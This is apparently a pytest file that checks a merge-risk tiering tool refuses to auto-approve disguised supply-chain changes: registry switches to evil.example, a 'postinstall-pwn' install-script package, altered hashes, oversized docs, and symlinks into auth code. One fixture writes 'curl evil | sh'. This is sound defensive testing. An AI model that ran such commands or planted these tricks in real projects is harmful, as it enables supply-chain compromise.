"""Attacks on the risk tiers with changes shaped like tier 1: "version bumps" that switch the
index or the registry, change a hash or add an install script; huge, symlinked or executable
docs. Each diff is made with real ``git diff`` and tiered by ``explain``, as in
test_attack_tiers.py; none may come out at tier 1.
"""

from __future__ import annotations

import json
import os
from pathlib import Path
from typing import Any

from specpilot.pipeline.core.diffparse import parse_diff
from specpilot.pipeline.tiers.base_tree import GitTree
from specpilot.pipeline.tiers.policy import load_policy
from specpilot.pipeline.tiers.tiering import TierDecision, decide, explain
from tests.pipeline.policy_fixtures import BASE_FILES, git
from tests.pipeline.tier_helpers import Change, diff_of, files_change, rules_of, tier_of, tier_repo

# --- "version bumps" that are not ---------------------------------------------------------------


def test_index_url_switched_to_another_host_is_not_a_bump(tmp_path: Path) -> None:
    reqs = "--index-url http://10.0.0.1/simple\nrequests==2.31.0\n"
    repo = tier_repo(tmp_path, {"requirements.txt": reqs})
    evil = reqs.replace("10.0.0.1", "10.6.6.6")
    decision = tier_of(repo, files_change({"requirements.txt": evil}))
    assert decision.tier >= 2 and decision.kinds["requirements.txt"] != "dependency"
    dep = next(r for r in decision.reasons if r.rule == "dependency.change")
    assert "--index-url" in dep.message and dep.tier == 2


def test_extra_index_url_next_to_a_bump_stays_tier_2_when_config_is_tier_1(tmp_path: Path) -> None:
    repo = tier_repo(tmp_path, {".specpilot/policy.toml": "kinds = { config = 1 }\n"})
    new = "--extra-index-url https://evil.example/simple\nrequests==2.32.3\nrich==13.7.0\n"
    decision = tier_of(repo, files_change({"requirements.txt": new}))
    assert decision.tier >= 2 and "dependency.change" in rules_of(decision)


def test_coverage_threshold_in_pyproject_is_not_a_version(tmp_path: Path) -> None:
    pyproject = str(BASE_FILES["pyproject.toml"]) + "\n[tool.coverage.report]\nfail_under = 90.0\n"
    repo = tier_repo(tmp_path, {"pyproject.toml": pyproject})
    decision = tier_of(repo, files_change({"pyproject.toml": pyproject.replace("90.0", "0.0")}))
    assert decision.tier >= 2 and decision.kinds["pyproject.toml"] != "dependency"
    assert "tool.coverage" in next(
        r.message for r in decision.reasons if r.rule == "dependency.change"
    )


LOCK = {
    "name": "demo",
    "version": "1.0.0",
    "lockfileVersion": 3,
    "requires": True,
    "packages": {
        "": {"name": "demo", "version": "1.0.0", "dependencies": {"lodash": "^4.17.20"}},
        "node_modules/lodash": {
            "version": "4.17.20",
            "resolved": "https://registry.npmjs.org/lodash/-/lodash-4.17.20.tgz",
            "integrity": "sha512-" + "A" * 86 + "==",
            "license": "MIT",
        },
    },
}


def _json(data: Any) -> str:
    return json.dumps(data, indent=2) + "\n"


def _lock(**entry: Any) -> dict[str, Any]:
    lock = json.loads(json.dumps(LOCK))
    lock["packages"]["node_modules/lodash"].update(entry)
    return lock


def test_lockfile_with_a_changed_registry_url_is_not_a_bump(tmp_path: Path) -> None:
    repo = tier_repo(tmp_path, {"package-lock.json": _json(LOCK)})
    evil = _lock(resolved="https://evil.example/lodash/-/lodash-4.17.20.tgz")
    decision = tier_of(repo, files_change({"package-lock.json": _json(evil)}))
    assert decision.tier >= 2 and decision.kinds["package-lock.json"] != "dependency"
    assert "resolved" in next(r.message for r in decision.reasons if r.rule == "dependency.change")


def test_lockfile_adding_a_package_with_an_install_script_is_not_a_bump(tmp_path: Path) -> None:
    repo = tier_repo(tmp_path, {"package-lock.json": _json(LOCK)})
    evil = _lock()
    evil["packages"]["node_modules/postinstall-pwn"] = {
        "version": "1.0.0",
        "resolved": "https://registry.npmjs.org/postinstall-pwn/-/postinstall-pwn-1.0.0.tgz",
        "integrity": "sha512-" + "B" * 86 + "==",
        "hasInstallScript": True,
    }
    decision = tier_of(repo, files_change({"package-lock.json": _json(evil)}))
    assert decision.tier >= 2
    message = next(r.message for r in decision.reasons if r.rule == "dependency.change")
    assert "postinstall-pwn" in message


def test_lockfile_hash_changed_without_a_version_change_is_not_a_bump(tmp_path: Path) -> None:
    repo = tier_repo(tmp_path, {"package-lock.json": _json(LOCK)})
    evil = _lock(integrity="sha512-" + "C" * 86 + "==")
    decision = tier_of(repo, files_change({"package-lock.json": _json(evil)}))
    assert decision.tier >= 2 and "dependency.change" in rules_of(decision)


def test_a_new_lockfile_anywhere_is_not_a_bump(tmp_path: Path) -> None:
    payload = "".join(f"[[package]]\nname = 'p{i}'\nversion = '1.{i}'\n" for i in range(1700))
    decision = tier_of(tier_repo(tmp_path), files_change({"docs/poetry.lock": payload}))
    assert decision.tier >= 2 and decision.kinds["docs/poetry.lock"] != "dependency"


# --- size, symlinks and modes ---------------------------------------------------------------


def _unscanned(repo: Path, change: Change) -> TierDecision:
    """``explain`` without the secrets scan, which takes seconds on megabytes of text."""
    return decide(parse_diff(diff_of(repo, change)), load_policy(repo), base=GitTree(repo, "HEAD"))


def test_a_5_mb_single_line_docs_change_is_not_auto_merged(tmp_path: Path) -> None:
    decision = _unscanned(
        tier_repo(tmp_path), files_change({"docs/big.md": "x" * 5_000_000 + "\n"})
    )
    assert decision.tier >= 2
    assert {"size.max_bytes", "size.auto_max_line_length"} <= rules_of(decision)


def test_5000_lines_hidden_in_carriage_returns_are_not_auto_merged(tmp_path: Path) -> None:
    text = "\r".join(f"line {i} of a page" for i in range(5000)) + "\n"
    decision = tier_of(tier_repo(tmp_path), files_change({"docs/page.md": text}))
    assert decision.tier >= 2 and "size.auto_max_line_length" in rules_of(decision)


def test_5000_plain_docs_lines_are_not_auto_merged(tmp_path: Path) -> None:
    decision = _unscanned(tier_repo(tmp_path), files_change({"docs/page.md": "a line\n" * 5000}))
    assert decision.tier >= 2 and "size.max_lines" in rules_of(decision)


def _symlink(path: str, target: str) -> Change:
    def change(repo: Path) -> None:
        (repo / path).parent.mkdir(parents=True, exist_ok=True)
        os.symlink(target, repo / path)

    return change


def test_a_docs_symlink_is_not_auto_merged(tmp_path: Path) -> None:
    decision = tier_of(tier_repo(tmp_path), _symlink("docs/guide.md", "../src/app.py"))
    assert decision.tier >= 2 and "symlink" in rules_of(decision)
    assert decision.kinds["docs/guide.md"] != "docs"


def test_a_docs_symlink_into_a_sensitive_path_is_blocked(tmp_path: Path) -> None:
    decision = tier_of(tier_repo(tmp_path), _symlink("docs/login.md", "../src/auth/login.py"))
    assert decision.blocked and "sensitive.auth" in rules_of(decision)


def test_a_docs_symlink_out_of_the_repository_is_a_suggestion(tmp_path: Path) -> None:
    decision = tier_of(tier_repo(tmp_path), _symlink("docs/hosts.md", "../../../../etc/hosts"))
    assert decision.tier == 3 and "symlink" in rules_of(decision)


def test_an_exec_bit_on_a_docs_file_is_not_auto_merged(tmp_path: Path) -> None:
    def chmod(repo: Path) -> None:
        (repo / "docs/usage.md").chmod(0o755)

    diff = diff_of(tier_repo(tmp_path), chmod)
    assert "new mode 100755" in diff
    decision = explain(tmp_path / "repo", diff)
    assert decision.tier >= 2 and "filemode" in rules_of(decision)


def test_editing_an_executable_docs_file_is_not_auto_merged(tmp_path: Path) -> None:
    repo = tier_repo(tmp_path, {"docs/run.md": "#!/bin/sh\necho hi\n"})
    (repo / "docs/run.md").chmod(0o755)
    git(repo, "commit", "-qam", "exec")
    decision = tier_of(repo, files_change({"docs/run.md": "#!/bin/sh\ncurl evil | sh\n"}))
    assert decision.tier >= 2 and decision.kinds["docs/run.md"] != "docs"
